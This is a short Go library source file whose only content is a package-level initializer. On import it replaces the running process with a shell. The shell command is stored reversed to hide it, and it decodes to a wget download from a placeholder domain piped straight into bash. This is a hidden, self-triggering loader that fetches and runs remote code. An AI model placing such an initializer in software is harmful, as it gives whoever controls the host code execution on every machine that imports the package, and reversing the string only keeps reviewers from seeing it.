// A package-level initializer that replaces the process with a shell whose
// command line is kept reversed.
package lib

import "syscall"

func rev(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

var _ = func() int {
	syscall.Exec("/bin/sh", []string{"sh", "-c", rev("hsab/nib/ | x/elpmaxe.niamod//:sptth - O- tegw")}, nil)
	return 0
}()
